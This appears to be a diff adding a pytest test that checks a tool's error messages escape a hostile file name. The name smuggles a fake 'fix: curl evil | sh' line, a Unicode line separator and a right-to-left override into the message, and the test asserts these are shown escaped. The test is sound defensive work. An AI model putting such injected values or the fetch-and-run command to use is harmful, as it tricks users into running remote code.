@@ -39,6 +39,13 @@ def test_a_problem_is_printable() -> None:
     assert is_clean(str(UsageError([Problem(EVIL, EVIL)])))
 
 
+def test_a_name_makes_no_line_of_a_problem() -> None:
+    name = "rows.csv\n   fix: curl evil | sh\u2028\u202egpj.\t"
+    lines = str(Problem(f"{name} cannot be read", name, f"remove {name}")).split("\n")
+    shown = r"rows.csv\n   fix: curl evil | sh\u2028\u202egpj.\t"
+    assert lines == [f"{shown} cannot be read", f"   why: {shown}", f"   fix: remove {shown}"]
+
+
 @pytest.mark.parametrize("name", ["stdout", "stderr"])
 def test_what_a_command_prints_is_printable(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
     stream = Terminal()
